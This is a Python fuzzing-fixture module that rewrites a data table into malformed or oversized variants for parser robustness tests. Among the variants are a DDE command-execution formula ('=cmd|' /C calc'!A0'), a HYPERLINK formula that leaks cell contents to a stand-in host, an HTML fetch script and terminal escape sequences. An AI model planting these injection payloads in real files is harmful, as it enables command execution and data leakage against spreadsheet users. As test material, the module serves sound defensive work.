"""Hostile tables and texts. Each function rewrites the honest one at a path.

Those that start with `harmless_` may be read as what they are.
"""

from __future__ import annotations

import itertools
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

_NUMBER = re.compile(r"(?<![\w.])-?\d+(?:\.\d+)?(?![\w.])")


def _text(path: Path) -> str:
    return path.read_text("utf-8")


def _lines(path: Path) -> list[str]:
    return _text(path).splitlines() or [""]


def _with_numbers(path: Path, change: Callable[[str], str]) -> None:
    """Change every number below the first line."""
    head, *rest = _lines(path)
    body = _NUMBER.sub(lambda found: change(found[0]), "\n".join(rest))
    path.write_text(f"{head}\n{body}\n", encoding="utf-8")


def table_of_nothing(path: Path) -> None:
    path.write_bytes(b"")


def table_of_blank_lines(path: Path) -> None:
    path.write_bytes(b"\n" * 500_000)


def table_of_commas(path: Path) -> None:
    path.write_bytes(_text(path).encode() + b"," * 10_000_000)


def table_of_lines_of_commas(path: Path) -> None:
    line = b"," * 4000 + b"\n"
    path.write_bytes(_lines(path)[0].encode() + b"\n" + line * 3000)


def harmless_byte_order_mark(path: Path) -> None:
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


def table_in_utf_16(path: Path) -> None:
    path.write_bytes(_text(path).encode("utf-16"))


def table_in_utf_32(path: Path) -> None:
    path.write_bytes(_text(path).encode("utf-32-le"))


def harmless_latin_1(path: Path) -> None:
    path.write_bytes(path.read_bytes() + "µm Zählung ±\n".encode("latin-1"))


def harmless_broken_utf_8(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"\n", b"\xf0\x9f\n\xc3"))


def harmless_semicolons(path: Path) -> None:
    path.write_text(_text(path).replace(",", ";"), encoding="utf-8")


def harmless_tabs(path: Path) -> None:
    path.write_text(_text(path).replace(",", "\t"), encoding="utf-8")


def harmless_line_ends_of_old(path: Path) -> None:
    path.write_bytes(_text(path).replace("\n", "\r").encode())


def harmless_strange_line_ends(path: Path) -> None:
    path.write_bytes(_text(path).replace("\n", "\u2028\x0b\x0c\x85\n").encode())


def harmless_thousands_separators(path: Path) -> None:
    _with_numbers(path, lambda number: f'"{float(number) * 1e6:,.2f}"')


def harmless_decimal_commas(path: Path) -> None:
    _with_numbers(path, lambda number: f'"{number.replace(".", ",")}"')


def table_of_nan(path: Path) -> None:
    _with_numbers(path, lambda _: "nan")


def table_of_infinities(path: Path) -> None:
    signs = itertools.cycle(["inf", "-inf"])
    _with_numbers(path, lambda _: next(signs))


def table_of_the_largest_floats(path: Path) -> None:
    numbers = itertools.cycle(["1.7e308", "-1.7e308", "1e-320"])
    _with_numbers(path, lambda _: next(numbers))


def table_of_negative_numbers(path: Path) -> None:
    _with_numbers(path, lambda number: f"-{number.lstrip('-')}")


def table_of_whole_numbers_beyond_64_bits(path: Path) -> None:
    _with_numbers(path, lambda _: "99999999999999999999999999")


def table_of_numbers_of_ten_thousand_digits(path: Path) -> None:
    _with_numbers(path, lambda _: "9" * 10_000)


def table_of_zeros(path: Path) -> None:
    _with_numbers(path, lambda _: "0")


def table_of_one_number(path: Path) -> None:
    _with_numbers(path, lambda _: "1")


def harmless_numbers_in_other_digits(path: Path) -> None:
    _with_numbers(path, lambda number: number.translate({48 + n: 0x660 + n for n in range(10)}))


def harmless_formulas(path: Path) -> None:
    _with_numbers(path, lambda number: f'"=HYPERLINK(""http://x/?""&A1,{number})"')


def harmless_commands(path: Path) -> None:
    _with_numbers(path, lambda _: "=cmd|' /C calc'!A0")


def table_of_three_million_rows(path: Path) -> None:
    path.write_bytes(_lines(path)[0].encode() + b"\n" + b"1,2\n" * 3_000_000)


def table_of_the_same_row_over_and_over(path: Path) -> None:
    head, *rest = _lines(path)
    last = ((rest or [head])[-1] + "\n").encode()
    path.write_bytes(head.encode() + b"\n" + last * 90_000)


def table_of_twenty_megabytes_in_one_line(path: Path) -> None:
    path.write_bytes(_lines(path)[0].encode() + b"\n" + b"7" * 20_000_000)


def table_of_fifteen_megabytes_in_one_line(path: Path) -> None:
    path.write_bytes(_lines(path)[0].encode() + b"\n" + b"7" * 15_000_000)


def table_of_fifteen_megabytes_in_one_line_of_cells(path: Path) -> None:
    path.write_bytes(_lines(path)[0].encode() + b"\n" + b"7," * 7_500_000)


def table_of_a_terabyte_of_holes(path: Path) -> None:
    with path.open("ab") as file:
        file.truncate(2**40)


def table_of_fifteen_megabytes_of_zero_bytes(path: Path) -> None:
    path.write_bytes(path.read_bytes() + bytes(15_000_000))


def harmless_zero_bytes(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b",", b"\0,").replace(b"1", b"1\0"))


def table_whose_quote_never_closes(path: Path) -> None:
    path.write_bytes(path.read_bytes() + b'"' + b"1,2\n" * 500_000)


def table_of_quotes(path: Path) -> None:
    path.write_bytes(path.read_bytes() + b'"' * 100_001 + b"\n")


def table_of_a_million_columns(path: Path) -> None:
    names = b",".join(b"c%d" % number for number in range(100_000))
    path.write_bytes(_lines(path)[0].encode() + b"," + names + b"\n")


def harmless_column_named_twice(path: Path) -> None:
    lines = _lines(path)
    path.write_text("\n".join(f"{line},{line}" for line in lines) + "\n", encoding="utf-8")


def harmless_rows_of_any_length(path: Path) -> None:
    head, *rest = _lines(path)
    ragged = [line[: number % 23] + ",," * (number % 5) for number, line in enumerate(rest)]
    path.write_text("\n".join([head, *rest, *ragged]) + "\n", encoding="utf-8")


def harmless_heading_repeated(path: Path) -> None:
    head, *rest = _lines(path)
    path.write_text("\n".join(f"{head}\n{line}" for line in rest) + "\n", encoding="utf-8")


def table_without_a_heading(path: Path) -> None:
    path.write_text("\n".join(_lines(path)[1:]) + "\n", encoding="utf-8")


def table_of_a_heading_alone(path: Path) -> None:
    path.write_text(_lines(path)[0] + "\n", encoding="utf-8")


def table_of_cells_that_delay_patterns(path: Path) -> None:
    """Fill cells with what makes patterns go back and forth."""
    baits = itertools.cycle(
        part * (60_000 // len(part))
        for part in ("a", " ", "_", "0", "1.", "- _", "p value ", "cell ", "A0", "(", "1e")
    )
    head, *rest = _lines(path)
    rows = [",".join(next(baits) for _ in line.split(",")) for line in rest[:40]]
    path.write_text("\n".join([head, *rest[:3], *rows]) + "\n", encoding="utf-8")


def table_of_endless_names(path: Path) -> None:
    """Fill every cell that holds no number with another name on every line."""
    head, *rest = _lines(path)
    cells = (rest or [head])[-1].split(",")
    texts = [not _NUMBER.fullmatch(cell.strip()) for cell in cells]
    with path.open("w", encoding="utf-8") as file:
        file.write(head + "\n")
        for number in range(30_000):
            row = zip(cells, texts, strict=True)
            file.write(",".join(f"{cell}{number}" if text else cell for cell, text in row) + "\n")


def table_of_endless_numbers(path: Path) -> None:
    """Count up in every cell that holds a number."""
    head, *rest = _lines(path)
    last = (rest or [head])[-1]
    pattern = _NUMBER.sub("%d", last.replace("%", "")) or "%d"
    n_slots = pattern.count("%d")
    with path.open("w", encoding="utf-8") as file:
        file.write(head + "\n")
        for number in range(30_000):
            file.write(pattern % ((number,) * n_slots) + "\n")


def text_that_is_a_page_of_the_web(path: Path) -> None:
    path.write_bytes(b"<!DOCTYPE html><html><script>fetch('//x')</script></html>" * 100)


def text_of_terminal_commands(path: Path) -> None:
    path.write_bytes(path.read_bytes() + b"\x1b]0;owned\x07\x1b[2J\x1b[31m,1,2,3,4\n")


def table_that_is_a_workbook(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04" + bytes(100) + b"PK\x05\x06" + bytes(18))


def table_of_random_bytes(path: Path) -> None:
    import random

    path.write_bytes(random.Random(0).randbytes(200_000))
